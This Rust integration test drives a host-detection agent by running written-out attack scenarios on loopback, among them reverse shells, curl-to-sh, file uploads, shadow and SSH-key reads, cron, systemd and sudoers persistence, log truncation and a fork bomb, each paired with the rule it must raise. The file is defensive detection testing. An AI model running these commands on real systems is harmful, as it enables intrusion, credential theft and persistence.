//! Issue 14 item 2: the scenario corpus. Attack behaviours run for real on this host under the
//! real agent and collector (default rules), each asserting the rule it must raise; and a
//! benign corpus (a build and its test run, git, archives, a script) that must raise nothing.
//!
//! Every scenario runs as `bash -c SCRIPT` in a scratch directory, started through a copy of
//! `timeout` named `tini` (a session boundary that forks its child and waits, as tini does), so
//! each scenario is a session of its own, as an intruder's SSH login would be: session
//! correlations and the alert fingerprint (by session) then tell one scenario's alerts from
//! another's. Only alerts naming the test's directory (command lines, working directories) are
//! counted, so other activity on the host does not count for or against a scenario. Scenarios only touch scratch directories
//! and remove what they put in system directories at once; nothing leaves the host (loopback
//! only). The table is meant to grow to the 60 scenarios: add a row.

use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::{Duration, Instant};

use kestrel_testkit::{
    poll, read_json_lines, require_root_for_ebpf,
    stack::{certs, Agent, Collector},
};
use serde_json::Value;

const AGENT: &str = "scenario-agent";
/// How long an alert may take (exec to alert line is well under a second; correlations wait
/// for their last event).
const ALERT_WAIT: Duration = Duration::from_secs(15);

/// One attack scenario: what it is, the ATT&CK tactic, the bash script and the rule it must
/// raise. `{dir}` in the script is the scenario's scratch directory.
struct Scenario {
    name: &'static str,
    tactic: &'static str,
    script: &'static str,
    rule: &'static str,
}

const SCENARIOS: &[Scenario] = &[
    Scenario {
        name: "shadow file read with cat",
        tactic: "credential-access",
        script: "cat /etc/shadow >/dev/null; true",
        rule: "kestrel-cred-shadow-read-cli",
    },
    Scenario {
        name: "file uploaded with curl -T",
        tactic: "exfiltration",
        script: "curl -s -m 2 -T /etc/hostname http://127.0.0.1:9/u || true",
        rule: "kestrel-exfil-http-upload-cli",
    },
    Scenario {
        name: "file posted with wget --post-file (another tool)",
        tactic: "exfiltration",
        script: "wget -q -T 2 -t 1 --post-file=/etc/hostname http://127.0.0.1:9/ -O /dev/null || true",
        rule: "kestrel-exfil-http-upload-cli",
    },
    Scenario {
        name: "tar piped into ssh 'cat > file'",
        tactic: "exfiltration",
        script: "tar cz -C {dir} . 2>/dev/null | ssh -o BatchMode=yes -o ConnectTimeout=1 -p 9 127.0.0.1 'cat > /tmp/x.tgz' 2>/dev/null || true",
        rule: "kestrel-exfil-ssh-remote-write",
    },
    Scenario {
        name: "archive made with a password",
        tactic: "collection",
        script: "zip -q -P s3cret {dir}/l.zip /etc/hostname",
        rule: "kestrel-collection-archive-with-password",
    },
    Scenario {
        name: "python pty.spawn of a shell",
        tactic: "execution",
        script: "echo exit | timeout 5 /usr/bin/python3 -c 'import pty; pty.spawn(\"/bin/sh\")' >/dev/null",
        rule: "kestrel-exec-interactive-shell-from-interpreter",
    },
    Scenario {
        name: "awk system('/bin/sh') (another interpreter)",
        tactic: "execution",
        script: "awk 'BEGIN { system(\"/bin/sh\") }' </dev/null",
        rule: "kestrel-exec-interactive-shell-from-interpreter",
    },
    Scenario {
        name: "find -exec /bin/sh (a GTFOBin)",
        tactic: "execution",
        script: "find /etc/hostname -exec /bin/sh \\; </dev/null",
        rule: "kestrel-exec-interactive-shell-from-interpreter",
    },
    Scenario {
        name: "perl replaces itself with a shell",
        tactic: "execution",
        script: "perl -e 'exec \"/bin/sh\";' </dev/null",
        rule: "kestrel-exec-interpreter-oneliner-shell",
    },
    Scenario {
        name: "Python .pth startup hook",
        tactic: "persistence",
        script: "/usr/bin/python3 -c \"open('/usr/lib/python3/dist-packages/zz_kestrel_scenario.pth','w').write('# test')\"; rm -f /usr/lib/python3/dist-packages/zz_kestrel_scenario.pth",
        rule: "kestrel-persistence-python-startup-hook",
    },
    Scenario {
        name: "library path added to ld.so.conf.d",
        tactic: "persistence",
        script: "echo '# test' > /etc/ld.so.conf.d/zz-kestrel-scenario.conf; rm -f /etc/ld.so.conf.d/zz-kestrel-scenario.conf",
        rule: "kestrel-persistence-ld-so-conf-written",
    },
    Scenario {
        name: "udev rule written",
        tactic: "persistence",
        script: "mkdir -p /etc/udev/rules.d && echo '# test' > /etc/udev/rules.d/99-kestrel-scenario.rules; rm -f /etc/udev/rules.d/99-kestrel-scenario.rules",
        rule: "kestrel-persistence-udev-rule-written",
    },
    Scenario {
        name: "XDG autostart entry",
        tactic: "persistence",
        script: "mkdir -p $HOME/.config/autostart && echo '[Desktop Entry]' > $HOME/.config/autostart/kestrel-scenario.desktop; rm -f $HOME/.config/autostart/kestrel-scenario.desktop",
        rule: "kestrel-persistence-xdg-autostart-written",
    },
    Scenario {
        name: "systemd generator dropped",
        tactic: "persistence",
        script: "mkdir -p /etc/systemd/system-generators && echo '# test' > /etc/systemd/system-generators/kestrel-scenario; rm -f /etc/systemd/system-generators/kestrel-scenario",
        rule: "kestrel-persistence-systemd-generator-written",
    },
    Scenario {
        name: "motd script written",
        tactic: "persistence",
        script: "mkdir -p /etc/update-motd.d && echo '# test' > /etc/update-motd.d/99-kestrel-scenario; rm -f /etc/update-motd.d/99-kestrel-scenario",
        rule: "kestrel-persistence-motd-script-written",
    },
    Scenario {
        name: "transient systemd timer",
        tactic: "persistence",
        script: "systemd-run --on-active=3600 /bin/true >/dev/null 2>&1 || true",
        rule: "kestrel-persistence-at-job-scheduled",
    },
    Scenario {
        name: "program named kworker run from /tmp",
        tactic: "defense-evasion",
        script: "cp /bin/sleep {dir}/kworker && {dir}/kworker 0.1",
        rule: "kestrel-evasion-masquerading-daemon-name",
    },
    Scenario {
        name: "kill builtin stops a security tool (no exec)",
        tactic: "defense-evasion",
        script: "cp /bin/sleep {dir}/auditd; {dir}/auditd 30 & sleep 0.5; kill -9 $!; wait",
        rule: "kestrel-evasion-security-tool-signalled",
    },
    Scenario {
        name: "another process's memory opened through /proc/PID/mem",
        tactic: "privilege-escalation",
        script: "sleep 30 & sleep 0.2; /usr/bin/python3 -c \"import sys; open('/proc/%s/mem' % sys.argv[1], 'r+b')\" $!; kill $!; wait",
        rule: "kestrel-privesc-proc-mem-written",
    },
    Scenario {
        name: "port scan from a loop of /dev/tcp subshells",
        tactic: "discovery",
        script: "for p in $(seq 1 30); do (echo > /dev/tcp/127.0.0.1/$p) 2>/dev/null; done; true",
        rule: "kestrel-discovery-port-scan-session",
    },
    Scenario {
        name: "burst of discovery commands",
        tactic: "discovery",
        script: "id; uname -a; hostname; ps aux; cat /etc/passwd; ip a 2>/dev/null || true",
        rule: "kestrel-discovery-recon-burst",
    },
    Scenario {
        name: "files written, made executable and run",
        tactic: "execution",
        script: "/usr/bin/python3 -c \"import shutil,os; shutil.copy('/bin/true','{dir}/.d'); os.chmod('{dir}/.d',0o755)\" && {dir}/.d",
        rule: "kestrel-exec-written-chmod-run",
    },
    Scenario {
        name: "mass rename to a new extension",
        tactic: "impact",
        script: "mkdir -p {dir}/docs && for i in $(seq 1 30); do echo $i > {dir}/docs/f$i.txt; done; /usr/bin/python3 -c \"import glob,os; [os.rename(f, f + '.locked') for f in glob.glob('{dir}/docs/*')]\"",
        rule: "kestrel-impact-mass-rename",
    },
    Scenario {
        name: "mass rewrite of existing files",
        tactic: "impact",
        script: "d=$(mktemp -d /root/kestrel-scenario.XXXXXX) && for i in $(seq 1 60); do echo $i > $d/f$i.db; done && /usr/bin/python3 -c \"import glob; [open(f, 'w').write('x') for f in glob.glob('$d/*')]\"; rm -rf $d",
        rule: "kestrel-impact-mass-rewrite",
    },
    Scenario {
        name: "cryptominer command line (renamed binary)",
        tactic: "impact",
        script: "cp /bin/true {dir}/systemd-helper && {dir}/systemd-helper -o stratum+tcp://127.0.0.1:3333 -u wallet --donate-level 1",
        rule: "kestrel-impact-cryptominer-cli",
    },
    Scenario {
        name: "bounded fork bomb (1,500 forks)",
        tactic: "impact",
        script: "for i in $(seq 1 1500); do ( : ) & done; wait",
        rule: "kestrel-impact-fork-bomb",
    },
    Scenario {
        name: "reverse shell through /dev/tcp",
        tactic: "execution",
        script: "bash -c 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1' 2>/dev/null || true",
        rule: "10fbfae6-53fc-4c6a-9714-5cf54d2bd373",
    },
    Scenario {
        name: "download piped into a shell",
        tactic: "execution",
        script: "curl -s -m 1 http://127.0.0.1:9/x | sh",
        rule: "13fced68-518c-4dac-93fc-093763a7ee23",
    },
    Scenario {
        name: "base64-decoded script piped into a shell",
        tactic: "defense-evasion",
        script: "echo dHJ1ZQo= | base64 -d | sh",
        rule: "13fced68-518c-4dac-93fc-093763a7ee23",
    },
    Scenario {
        name: "python socket reverse shell",
        tactic: "command-and-control",
        script: "/usr/bin/python3 -c 'import socket,os;s=socket.socket();s.connect((\"127.0.0.1\",9));os.dup2(s.fileno(),0);os.execv(\"/bin/sh\",[\"sh\"])' 2>/dev/null || true",
        rule: "kestrel-exec-scripting-reverse-shell",
    },
    Scenario {
        name: "download saved into /dev/shm",
        tactic: "command-and-control",
        script: "curl -s -m 1 -o /dev/shm/kestrel-scenario http://127.0.0.1:9/ || true",
        rule: "kestrel-exec-download-to-temp-dir",
    },
    Scenario {
        name: "program run from /dev/shm",
        tactic: "defense-evasion",
        script: "cp /bin/true /dev/shm/kestrel-scenario && /dev/shm/kestrel-scenario; rm -f /dev/shm/kestrel-scenario",
        rule: "kestrel-exec-from-dev-shm",
    },
    Scenario {
        name: "fileless execution from a memfd",
        tactic: "defense-evasion",
        script: "/usr/bin/python3 -c \"import os; fd = os.memfd_create('x'); os.write(fd, open('/bin/true', 'rb').read()); os.execv('/proc/self/fd/%d' % fd, ['x'])\"",
        rule: "kestrel-exec-fileless-memfd",
    },
    Scenario {
        name: "hidden file dropped in /tmp",
        tactic: "defense-evasion",
        script: "touch /tmp/.kestrel-scenario && rm -f /tmp/.kestrel-scenario",
        rule: "kestrel-evasion-hidden-file-in-temp-dir",
    },
    Scenario {
        name: "shell history deleted",
        tactic: "defense-evasion",
        script: "touch {dir}/.bash_history && rm {dir}/.bash_history",
        rule: "kestrel-evasion-history-file-deleted",
    },
    Scenario {
        name: "log file truncated",
        tactic: "defense-evasion",
        script: "echo x > /var/log/kestrel-scenario.log && : > /var/log/kestrel-scenario.log; rm -f /var/log/kestrel-scenario.log",
        rule: "kestrel-evasion-log-file-truncated",
    },
    Scenario {
        name: "timestamps forged with touch -d",
        tactic: "defense-evasion",
        script: "touch {dir}/f && touch -d 2001-01-01 {dir}/f",
        rule: "kestrel-evasion-timestomp",
    },
    Scenario {
        name: "LD_PRELOAD on a command line",
        tactic: "persistence",
        script: "env LD_PRELOAD={dir}/x.so /bin/true 2>/dev/null; true",
        rule: "kestrel-persistence-ld-preload-command-line",
    },
    Scenario {
        name: "setuid bit set with chmod u+s",
        tactic: "privilege-escalation",
        script: "cp /bin/true {dir}/s && chmod u+s {dir}/s",
        rule: "kestrel-privesc-setuid-bit-set",
    },
    Scenario {
        name: "SSH authorized_keys written",
        tactic: "persistence",
        script: "mkdir -p {dir}/.ssh && echo 'ssh-ed25519 AAAA x' > {dir}/.ssh/authorized_keys",
        rule: "kestrel-persistence-authorized-keys-modified",
    },
    Scenario {
        name: "cron file written",
        tactic: "persistence",
        script: "echo '# test' > /etc/cron.d/kestrel-scenario; rm -f /etc/cron.d/kestrel-scenario",
        rule: "kestrel-persistence-cron-file-written",
    },
    Scenario {
        name: "systemd unit written",
        tactic: "persistence",
        script: "echo '[Unit]' > /etc/systemd/system/kestrel-scenario.service; rm -f /etc/systemd/system/kestrel-scenario.service",
        rule: "kestrel-persistence-systemd-unit-written",
    },
    Scenario {
        name: "profile.d script written",
        tactic: "persistence",
        script: "echo '# test' > /etc/profile.d/zz-kestrel-scenario.sh; rm -f /etc/profile.d/zz-kestrel-scenario.sh",
        rule: "kestrel-persistence-shell-profile-written",
    },
    Scenario {
        name: "sudoers.d file written",
        tactic: "privilege-escalation",
        script: "echo '# test' > /etc/sudoers.d/zz-kestrel-scenario; rm -f /etc/sudoers.d/zz-kestrel-scenario",
        rule: "kestrel-privesc-sudoers-modified",
    },
    Scenario {
        name: "SSH private key dumped with cat",
        tactic: "credential-access",
        script: "mkdir -p {dir}/.ssh && echo k > {dir}/.ssh/id_rsa && cat {dir}/.ssh/id_rsa",
        rule: "kestrel-cred-ssh-key-dumped-cli",
    },
    Scenario {
        name: "packet capture socket opened",
        tactic: "discovery",
        script: "/usr/bin/python3 -c \"import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW)\"",
        rule: "kestrel-discovery-packet-capture-socket",
    },
];

/// Benign work that must raise no alert at all.
const BENIGN: &[(&str, &str)] = &[
    (
        "compile with gcc and run the program",
        "printf 'int main(void){return 0;}\\n' > {dir}/hello.c && gcc -O2 -o {dir}/hello {dir}/hello.c && {dir}/hello",
    ),
    (
        // The test script is created executable, as git checks out an executable file.
        "make builds two objects and runs the test script",
        "cd {dir} && printf 'int f(void){return 1;}\\n' > a.c && printf 'int f(void);int main(void){return f()-1;}\\n' > m.c && printf 'all: t\\nt: a.o m.o\\n\\tcc -o t a.o m.o\\n' > Makefile && make -s -j2 && /usr/bin/python3 -c \"import os; os.write(os.open('test.sh', os.O_CREAT | os.O_WRONLY, 0o755), b'#!/bin/sh\\\\n./t\\\\n')\" && ./test.sh",
    ),
    (
        "git init, commit and log",
        "cd {dir} && git init -q r && cd r && echo x > f && git add f && git -c user.name=a -c user.email=a@b commit -qm init && git log --oneline >/dev/null",
    ),
    (
        "tar and gzip a tree, extract it again",
        "cd {dir} && mkdir -p src && echo x > src/a && tar czf s.tgz src && mkdir out && tar xzf s.tgz -C out",
    ),
    (
        "a developer checks who they are",
        "id >/dev/null; ps aux >/dev/null",
    ),
];

fn run(session_root: &Path, dir: &Path, script: &str) {
    let script = script.replace("{dir}", &dir.display().to_string());
    let status = Command::new(session_root)
        .args(["60", "/bin/bash", "-c", &script])
        .current_dir(dir)
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .status()
        .unwrap();
    let _ = status;
}

/// The alerts about this test's processes (their command lines or working directories name
/// `dir`), in arrival order.
fn alerts(path: &Path, dir: &Path) -> Vec<Value> {
    let dir = dir.display().to_string();
    read_json_lines(path)
        .into_iter()
        .filter(|a| a.to_string().contains(&dir))
        .collect()
}

/// `timeout` copied as `tini`: it forks the scenario's shell and waits, and the session table
/// starts a session below a process of that name.
fn session_root(dir: &Path) -> PathBuf {
    let root = dir.join("bin/tini");
    std::fs::create_dir_all(root.parent().unwrap()).unwrap();
    std::fs::copy("/usr/bin/timeout", &root).unwrap();
    root
}

#[test]
fn attack_scenarios_raise_their_rules_and_benign_work_raises_nothing() {
    if !require_root_for_ebpf() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let pki = dir.path().join("pki");
    certs(&pki, AGENT);
    let mut collector = Collector::new(dir.path(), &pki, &[]);
    collector.start();
    let mut agent = Agent::new(dir.path(), &pki, AGENT, collector.port, &[]);
    agent.start();
    agent.expect_connected();
    let root = session_root(dir.path());

    // Benign first, while the alert file is empty: nothing at all may arrive.
    for (i, (name, script)) in BENIGN.iter().enumerate() {
        let scratch = dir.path().join(format!("benign-{i}"));
        std::fs::create_dir_all(&scratch).unwrap();
        run(&root, &scratch, script);
        eprintln!("benign: {name}");
    }
    std::thread::sleep(Duration::from_secs(5));
    let benign_alerts: Vec<String> = alerts(&collector.alerts, dir.path())
        .iter()
        .map(|a| format!("{} on {}", a["rule"]["id"], a["process"]["command_line"]))
        .collect();

    let mut results: Vec<(&Scenario, bool, Duration)> = Vec::new();
    for (i, scenario) in SCENARIOS.iter().enumerate() {
        let scratch = dir.path().join(format!("scenario-{i}"));
        std::fs::create_dir_all(&scratch).unwrap();
        let before = alerts(&collector.alerts, dir.path()).len();
        let started = Instant::now();
        run(&root, &scratch, scenario.script);
        let found = poll(ALERT_WAIT, || {
            alerts(&collector.alerts, dir.path())
                .iter()
                .skip(before)
                .any(|a| a["rule"]["id"] == scenario.rule)
                .then_some(())
        });
        results.push((scenario, found.is_some(), started.elapsed()));
    }

    // Detected / total per tactic, then every miss with what did arrive.
    let mut tactics: std::collections::BTreeMap<&str, (usize, usize)> = Default::default();
    for (s, ok, _) in &results {
        let t = tactics.entry(s.tactic).or_default();
        t.1 += 1;
        if *ok {
            t.0 += 1;
        }
    }
    for (tactic, (ok, total)) in &tactics {
        eprintln!("{tactic}: {ok}/{total} detected");
    }
    let misses: Vec<String> = results
        .iter()
        .filter(|(_, ok, _)| !ok)
        .map(|(s, _, _)| format!("{} ({}): expected {}", s.name, s.tactic, s.rule))
        .collect();
    let arrived: Vec<String> = alerts(&collector.alerts, dir.path())
        .iter()
        .map(|a| format!("{} {}", a["rule"]["id"], a["process"]["command_line"]))
        .collect();
    assert!(
        misses.is_empty() && benign_alerts.is_empty(),
        "missed: {misses:#?}\nbenign work raised: {benign_alerts:#?}\nall alerts: {arrived:#?}\nagent log tail:\n{}",
        kestrel_testkit::stack::tail(&agent.logs(), 20)
    );
}
